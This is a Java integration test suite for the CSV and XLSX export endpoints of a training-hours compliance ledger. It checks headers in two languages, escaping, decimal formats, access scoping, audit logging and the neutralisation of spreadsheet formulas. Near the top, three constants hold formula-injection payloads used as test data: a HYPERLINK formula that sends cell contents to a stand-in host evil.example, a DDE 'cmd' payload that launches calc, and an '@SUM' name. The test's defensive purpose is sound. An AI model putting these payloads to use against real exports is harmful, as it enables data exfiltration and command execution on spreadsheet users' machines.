package org.jpledger.reporting.export;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.jpledger.reporting.LedgerEvents.freshNip;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.List;
import java.util.UUID;
import javax.sql.DataSource;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.jpledger.contracts.access.Access;
import org.jpledger.contracts.events.CompletionRecorded;
import org.jpledger.contracts.events.EmployeeUpserted;
import org.jpledger.contracts.events.ExemptionPeriod;
import org.jpledger.contracts.events.UnitAssignment;
import org.jpledger.contracts.problem.Problem;
import org.jpledger.contracts.reference.CompetencyType;
import org.jpledger.contracts.reference.CompletionStatus;
import org.jpledger.contracts.reference.DeliveryMode;
import org.jpledger.contracts.reference.EmploymentType;
import org.jpledger.contracts.reference.ExemptionKind;
import org.jpledger.contracts.reference.LeavingReason;
import org.jpledger.contracts.reference.PositionLevel;
import org.jpledger.contracts.reference.TrainingMethod;
import org.jpledger.localstack.TestTokens;
import org.jpledger.localstack.Token;
import org.jpledger.reporting.LedgerEvents;
import org.jpledger.reporting.Projections;
import org.jpledger.reporting.rest.ExportResource;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The on-demand exports read back as a client would: headers in both languages, RFC 4180 escaping of awkward names,
 * XLSX with real numbers, the row count and as-of time in headers and trailer, figures equal to the compliance API's.
 */
@QuarkusTest
class ExportResourceTest {

    private static final String AWKWARD = "Siti \"Ani\", S.Kom";
    private static final String MULTILINE = "Budi\nSantoso";
    private static final String NON_ASCII = "Dewi Ñoman ꦱꦶꦠꦶ";
    private static final String HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Budi\")";
    private static final String HOSTILE_MINUS = "-2+3+cmd|' /C calc'!A0";
    private static final String HOSTILE_UNIT = "@SUM(1+1) Bidang ";

    @ConfigProperty(name = "kafka.bootstrap.servers")
    String bootstrapServers;

    @Inject
    ObjectMapper mapper;

    @Inject
    DataSource dataSource;

    private LedgerEvents events;
    private Projections projections;
    private String root;
    private String child;
    private final int year = LocalDate.now(ZoneId.of("Asia/Jakarta")).getYear();
    private final LocalDate firstOfYear = LocalDate.now(ZoneId.of("Asia/Jakarta")).withDayOfYear(1);

    /** ROOT with CHILD below: three employees with awkward names and 12, 7.5 and no JP. */
    @BeforeEach
    void tree() {
        events = new LedgerEvents(bootstrapServers, mapper);
        projections = new Projections(dataSource);
        String run = UUID.randomUUID().toString().substring(0, 8);
        root = "EXP-" + run;
        child = root + "-1";
        events.unit(root, "Dinas, \"Ekspor\" " + run, 1);
        events.unit(child, "Bidang Ñ " + run, root, 1);
        employee(AWKWARD, root, "12", "SERT/2026/001");
        employee(MULTILINE, child, "7.5", null);
        employee(NON_ASCII, child, null, null);
    }

    @AfterEach
    void disconnect() {
        events.close();
    }

    @Test
    void exportsTheComplianceOfASubtreeAsCsvThatReadsBackExactly() {
        Response response = export("compliance", "unitCode=" + root);

        List<List<String>> rows = CsvRows.parse(response.asString(), ',');
        assertThat(rows.get(0)).containsExactly("NIP", "Nama", "Kode Unit", "Nama Unit", "Jenis Kepegawaian",
                "Kode Jenis Kepegawaian", "Jenjang Jabatan", "Kode Jenjang Jabatan", "Target JP", "Total JP",
                "JP Teknis", "JP Manajerial", "JP Sosial Kultural", "JP Klasikal", "JP Nonklasikal",
                "Jumlah Pelatihan", "Status", "Kode Status", "Hari Dikecualikan", "Alasan Keluar",
                "Kode Alasan Keluar", "TMT Unit", "Mulai Bertugas", "Selesai Bertugas", "JP Diharapkan s.d. Hari Ini",
                "Versi Kebijakan", "Kode Unit Kebijakan", "Tahun Ditutup", "Versi Penutupan",
                "JP Menunggu Verifikasi", "JP Terindikasi Duplikat");
        List<List<String>> data = rows.subList(1, rows.size() - 1);
        assertThat(data).hasSize(3);
        assertThat(response.header(ExportResource.ROW_COUNT)).isEqualTo("3");
        assertThat(data).extracting(row -> row.get(1)).containsExactlyInAnyOrder(AWKWARD, MULTILINE, NON_ASCII);
        assertThat(data).extracting(row -> row.get(3)).contains("Dinas, \"Ekspor\" " + root.substring(4));
        BigDecimal total = data.stream().map(row -> new BigDecimal(row.get(9))).reduce(BigDecimal.ZERO,
                BigDecimal::add);
        BigDecimal apiTotal = new BigDecimal(given().queryParam("year", year)
                .get("/api/v1/compliance/units/{code}", root).jsonPath().getString("unit.figures.totalJp"));
        assertThat(total).isEqualByComparingTo(apiTotal).isEqualByComparingTo("19.5");

        List<String> trailer = rows.get(rows.size() - 1);
        assertThat(trailer).containsExactly("#", "jumlah baris", "3", "data per",
                response.header(ExportResource.AS_OF), "angka", "LIVE");
        assertThat(response.header(ExportResource.FIGURES)).isEqualTo("LIVE");
        assertThat(response.header(ExportResource.CLOSING_VERSION)).isNull();
        assertThat(response.header("Content-Disposition")).startsWith("attachment; filename=\"jpledger-compliance-");
        var audit = given().queryParam("target", root).get("/api/v1/admin/audit").jsonPath();
        assertThat(audit.getString("entries[0].action")).isEqualTo("export.compliance");
        assertThat(audit.getInt("entries[0].details.rows")).isEqualTo(3);
        assertThat(audit.getString("entries[0].details.filters.units")).isEqualTo(root);
    }

    @Test
    void writesABomAndSemicolonsWithDecimalCommasForExcelInIndonesia() {
        byte[] bytes = given().get("/api/v1/exports/compliance?unitCode=" + child + "&bom=true&separator=semicolon")
                .then().statusCode(200).extract().asByteArray();

        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        List<List<String>> rows = CsvRows.parse(new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8), ';');
        assertThat(rows.subList(1, rows.size() - 1)).extracting(row -> row.get(9)).containsExactlyInAnyOrder("7,5",
                "0");
    }

    @Test
    void exportsXlsxWithEnglishHeadersRealNumbersAndItsRowCount() throws IOException {
        Response response = export("compliance", "unitCode=" + root + "&format=xlsx&lang=en");
        assertThat(response.contentType()).startsWith("application/vnd.openxmlformats-officedocument.spreadsheetml");

        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(response.asByteArray()))) {
            List<Sheet> sheets = workbook.getSheets().toList();
            List<Row> rows = sheets.get(0).read();
            assertThat(rows.get(0).getCell(1).asString()).isEqualTo("Name");
            assertThat(rows.get(0).getCell(7).asString()).isEqualTo("Total JP");
            assertThat(rows).hasSize(4);
            assertThat(rows.subList(1, 4).stream().map(row -> row.getCell(1).asString()))
                    .containsExactlyInAnyOrder(AWKWARD, MULTILINE, NON_ASCII);
            assertThat(rows.subList(1, 4).stream().map(row -> row.getCell(7).asNumber())
                    .reduce(BigDecimal.ZERO, BigDecimal::add)).isEqualByComparingTo("19.5");
            List<Row> about = sheets.get(1).read();
            assertThat(about.get(1).getCell(1).asNumber()).isEqualByComparingTo("3");
            assertThat(about.get(2).getCell(1).asString()).isEqualTo(response.header(ExportResource.AS_OF));
            assertThat(about.get(3).getCell(1).asString()).isEqualTo("LIVE");
        }
    }

    @Test
    void exportsEachUnitOfTheSubtreeWithItsParentAndFiguresAsTheApiHasThem() {
        List<List<String>> rows = CsvRows.parse(export("units", "unitCode=" + root + "&lang=en").asString(), ',');

        assertThat(rows.get(0)).containsExactly("Unit code", "Unit name", "Parent unit code", "Headcount",
                "Compliant", "On track", "At risk", "Not met", "Compliance rate", "Total JP", "Average JP", "Exempt",
                "PNS headcount", "PNS compliant", "PPPK headcount", "PPPK compliant", "PPPK PARUH WAKTU headcount",
                "PPPK PARUH WAKTU compliant", "Leavers: PENSIUN", "Leavers: MENINGGAL", "Leavers: MUTASI_KELUAR",
                "Leavers: DIBERHENTIKAN", "Leavers: BERHENTI_ATAS_PERMINTAAN_SENDIRI", "Leavers: KONTRAK_BERAKHIR",
                "Leavers: LAINNYA", "Above cap", "Leavers excluded", "JP above cap");
        List<List<String>> data = rows.subList(1, rows.size() - 1);
        assertThat(data).extracting(row -> row.get(0)).containsExactly(root, child);
        assertThat(data.get(1).get(2)).isEqualTo(root);
        var api = given().queryParam("year", year).get("/api/v1/compliance/units/{code}", root).jsonPath();
        assertThat(data.get(0).get(3)).isEqualTo(api.getString("unit.figures.headcount"));
        assertThat(new BigDecimal(data.get(0).get(9))).isEqualByComparingTo(api.getString("unit.figures.totalJp"));
        assertThat(data.get(1).get(3)).isEqualTo("2");
        assertThat(new BigDecimal(data.get(1).get(9))).isEqualByComparingTo("7.5");
    }

    @Test
    void exportsTheExemptTheLeaversAndEachEmploymentTypeAsTheApiCountsThem() {
        LocalDate lastYear = firstOfYear.minusYears(1);
        String exempt = freshNip();
        events.employee(new EmployeeUpserted(exempt, "Tugas Belajar", EmploymentType.PNS, PositionLevel.PELAKSANA,
                child, LocalDate.of(2010, 1, 1), null, 1, null, null, List.of(new ExemptionPeriod(UUID.randomUUID(),
                        ExemptionKind.TUGAS_BELAJAR, lastYear, null, "800/12/BKD")), null));
        String leaver = freshNip();
        projections.awaitHandled(events.employee(new EmployeeUpserted(leaver, "Pensiun", EmploymentType.PPPK,
                PositionLevel.PELAKSANA, child, LocalDate.of(2010, 1, 1), firstOfYear, 1, null, null, null,
                LeavingReason.PENSIUN)));

        List<List<String>> compliance = CsvRows.parse(export("compliance", "unitCode=" + child).asString(), ',');
        List<String> exemptRow = compliance.stream().filter(row -> row.get(0).equals(exempt)).findFirst()
                .orElseThrow();
        assertThat(exemptRow.subList(16, 21)).containsExactly("Dikecualikan", "EXEMPT",
                Integer.toString(firstOfYear.lengthOfYear()), "", "");
        assertThat(compliance.stream().filter(row -> row.get(0).equals(leaver)).findFirst().orElseThrow()
                .subList(19, 21)).containsExactly("Pensiun", "PENSIUN");

        List<List<String>> units = CsvRows.parse(export("units", "unitCode=" + child).asString(), ',');
        List<String> row = units.get(1);
        var api = given().queryParam("year", year).get("/api/v1/compliance/units/{code}", child).jsonPath();
        assertThat(row.get(3)).isEqualTo(api.getString("unit.figures.headcount")).isEqualTo("3");
        assertThat(row.subList(11, 18)).containsExactly(api.getString("unit.figures.exempt"),
                api.getString("unit.figures.employmentTypes.PNS.headcount"),
                api.getString("unit.figures.employmentTypes.PNS.compliant"),
                api.getString("unit.figures.employmentTypes.PPPK.headcount"),
                api.getString("unit.figures.employmentTypes.PPPK.compliant"),
                api.getString("unit.figures.employmentTypes.PPPK_PARUH_WAKTU.headcount"),
                api.getString("unit.figures.employmentTypes.PPPK_PARUH_WAKTU.compliant"));
        assertThat(row.subList(11, 18)).containsExactly("1", "2", "0", "1", "0", "0", "0");
        assertThat(row.get(18)).isEqualTo(api.getString("unit.figures.leavers.PENSIUN")).isEqualTo("1");
        assertThat(row.subList(25, 28)).containsExactly(api.getString("unit.figures.aboveCap"),
                api.getString("unit.figures.leftService"), api.getString("unit.figures.jpAboveCap"));
    }

    @Test
    void exportsCountedCompletionsInTheNationalTrainingHistoryShape() {
        List<List<String>> rows = CsvRows.parse(export("training-history",
                "unitCode=" + root + "&from=" + firstOfYear + "&to=" + firstOfYear).asString(), ',');

        assertThat(rows.get(0)).containsExactly("NIP", "Nama", "Kode Unit", "ID Jenis Diklat", "Jenis Diklat",
                "Nama Diklat", "Institusi Penyelenggara", "Nomor Sertifikat", "Tanggal Mulai", "Tanggal Selesai",
                "Tahun", "Jumlah Jam", "JP");
        List<List<String>> data = rows.subList(1, rows.size() - 1);
        assertThat(data).hasSize(2);
        List<String> certified = data.stream().filter(row -> row.get(1).equals(AWKWARD)).findFirst().orElseThrow();
        assertThat(certified.subList(3, 13)).containsExactly("3", "Diklat Teknis", "Pelatihan Analisis Data",
                "BPSDMD \"Jateng\"", "SERT/2026/001", firstOfYear.toString(), firstOfYear.toString(),
                Integer.toString(year), "9", "12");
    }

    @Test
    void answersAUnitOutsideTheCallersUnitsAndBadParametersWithProblems() {
        given().header("Authorization", TestTokens.bearer(Token.withRoles(Access.REPORT_READER).units(child)))
                .get("/api/v1/exports/compliance?unitCode=" + root).then().statusCode(404)
                .contentType(Problem.MEDIA_TYPE);
        List<String> fields = given().get("/api/v1/exports/compliance?format=pdf&lang=fr&separator=tab&status=GOOD")
                .then().statusCode(400).contentType(Problem.MEDIA_TYPE).extract().jsonPath().getList("errors.field");
        assertThat(fields).containsExactlyInAnyOrder("format", "lang", "separator", "status");
        given().get("/api/v1/exports/training-history?from=2026-02-01&to=2026-01-01").then().statusCode(400);
    }

    @Test
    void limitsAScopedReaderWithoutUnitCodeToItsOwnUnits() {
        List<List<String>> rows = CsvRows.parse(given()
                .header("Authorization", TestTokens.bearer(Token.withRoles(Access.REPORT_READER).units(child)))
                .get("/api/v1/exports/compliance").then().statusCode(200).extract().asString(), ',');

        assertThat(rows.subList(1, rows.size() - 1)).extracting(row -> row.get(2)).containsOnly(child).hasSize(2);
    }

    @Test
    void neutralisesNamesASpreadsheetWouldRunAsFormulasInCsvAndXlsx() throws IOException {
        String run = UUID.randomUUID().toString().substring(0, 8);
        String unit = "INJ-" + run;
        events.unit(unit, HOSTILE_UNIT + run, 1);
        employee(HOSTILE_NAME, unit, "2", null);
        employee(HOSTILE_MINUS, unit, null, null);
        // A subject of its own, so this test's exports use no other test's allowance.
        String reader = TestTokens.bearer(Token.withRoles(Access.REPORT_READER).units(Access.ALL_UNITS)
                .subject("formula-" + run));

        List<List<String>> rows = CsvRows.parse(given().header("Authorization", reader)
                .get("/api/v1/exports/compliance?unitCode=" + unit).then().statusCode(200).extract().asString(), ',');
        List<List<String>> data = rows.subList(1, rows.size() - 1);
        assertThat(data).extracting(row -> row.get(1)).containsExactlyInAnyOrder("'" + HOSTILE_NAME,
                "'" + HOSTILE_MINUS);
        assertThat(data).extracting(row -> row.get(3)).containsOnly("'" + HOSTILE_UNIT + run);
        assertThat(data).extracting(row -> row.get(9)).containsExactlyInAnyOrder("2", "0");

        byte[] workbook = given().header("Authorization", reader)
                .get("/api/v1/exports/compliance?unitCode=" + unit + "&format=xlsx").then().statusCode(200).extract()
                .asByteArray();
        try (ReadableWorkbook read = new ReadableWorkbook(new ByteArrayInputStream(workbook))) {
            List<Row> sheet = read.getFirstSheet().read().subList(1, 3);
            assertThat(sheet.stream().map(row -> row.getCell(1).asString()))
                    .containsExactlyInAnyOrder("'" + HOSTILE_NAME, "'" + HOSTILE_MINUS);
            assertThat(sheet.stream().map(row -> row.getCell(3).asString())).containsOnly("'" + HOSTILE_UNIT + run);
            assertThat(sheet.stream().map(row -> row.getCell(9).asNumber()))
                    .usingElementComparator(BigDecimal::compareTo).containsExactlyInAnyOrder(new BigDecimal("2"),
                            BigDecimal.ZERO);
        }
    }

    private static Response export(String kind, String query) {
        return given().get("/api/v1/exports/" + kind + "?" + query).then().statusCode(200).extract().response();
    }

    private void employee(String name, String unit, String jp, String certificate) {
        String nip = freshNip();
        var last = events.employee(new EmployeeUpserted(nip, name, EmploymentType.PNS, PositionLevel.PELAKSANA, unit,
                LocalDate.of(2010, 1, 1), null, 1, List.of(new UnitAssignment(unit, LocalDate.of(2010, 1, 1)))));
        if (jp != null) {
            UUID id = UUID.randomUUID();
            BigDecimal value = new BigDecimal(jp);
            last = events.completion(new CompletionRecorded(id, 1, nip, "Pelatihan Analisis Data", 3,
                    TrainingMethod.KLASIKAL, CompetencyType.TEKNIS, DeliveryMode.LURING, "BPSDMD \"Jateng\"",
                    firstOfYear, firstOfYear, year, value, null, false, value, certificate, "test", id.toString(),
                    CompletionStatus.ACTIVE, 1, null));
        }
        projections.awaitHandled(last);
    }
}
